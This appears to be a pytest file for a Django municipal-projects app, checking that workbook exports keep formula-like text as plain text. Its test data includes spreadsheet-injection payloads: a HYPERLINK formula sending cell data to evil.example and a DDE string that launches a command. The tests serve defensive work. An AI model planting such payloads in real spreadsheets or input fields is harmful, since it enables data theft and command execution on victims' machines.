"""Text that looks like a formula stays text in every workbook guatu writes, read back exact."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from guatu.accounts.models import User
from guatu.ledger.exporting import ledger_workbook
from guatu.ledger.importing import ledger_import
from guatu.org.models import City, Department
from guatu.parks.models import Park
from guatu.parks.results import screening_workbook
from guatu.progress.models import Blocker
from guatu.progress.services import blocker_open, report_submit
from guatu.projects.models import Project, WorkItem
from guatu.supervision.render import to_xlsx
from guatu.supervision.services import bulletin_draft

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
CALC = "=cmd|' /C calc'!A0"
NOTE = "=1+1 已完成"
OTHERS = ["+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def cells(book: bytes):
    for sheet in load_workbook(io.BytesIO(book)).worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(book: bytes, *texts: str) -> None:
    found = {cell.value for cell in cells(book) if isinstance(cell.value, str)}
    assert not [c.coordinate for c in cells(book) if c.data_type == "f"]
    for text in texts:
        assert text in found, text


def test_blockers_notes_and_names_are_text_in_the_bulletin_and_the_ledger(demo):
    office = User.objects.get(username="supervisor")
    item = WorkItem.objects.get(project__code="jintai-railway", code="wq-xl")
    blocker_open(
        actor=office,
        work_item=item,
        description=LINK,
        owner_department=Department.objects.first(),
        responsible_person=CALC,
        opened_on=date(2019, 11, 1),
        due_on=date(2019, 11, 10),
    )
    report_submit(
        work_item=item,
        reported_by=office,
        reported_on=date(2019, 11, 15),
        quantity=Decimal(1),
        unit="km",
        note=NOTE,
    )
    Project.objects.filter(code="park-shizhu").update(name=OTHERS[0])
    WorkItem.objects.filter(project__code="park-gushan", code="wj").update(name=OTHERS[2])
    city = City.objects.get()
    draft = bulletin_draft(actor=office, city=city, period_text="2019-W46")
    assert_no_formula(to_xlsx(draft.content), LINK, CALC)
    ledger = ledger_workbook(city=city)
    assert_no_formula(ledger, NOTE, OTHERS[0], OTHERS[2])
    # Written as text, read back exact: the export imports as a no-op.
    result = ledger_import(
        source=io.BytesIO(ledger), name="export.xlsx", actor=office, city=city, dry_run=True
    )
    assert result.ok, [str(p) for p in result.problems[:3]]
    assert result.progress.counts["created"] == result.progress.counts["updated"] == 0
    assert result.projects.counts["updated"] == 0 and result.items.counts["updated"] == 0
    assert Blocker.objects.filter(description=LINK).exists()


def test_park_results_keep_formula_text_as_text(demo):
    park = Park.objects.get(town__name="石柱镇")
    application = park.applications.select_related("enterprise").first()
    for text in OTHERS:
        type(application.enterprise).objects.filter(pk=application.enterprise.pk).update(name=text)
        assert_no_formula(screening_workbook(park), text)
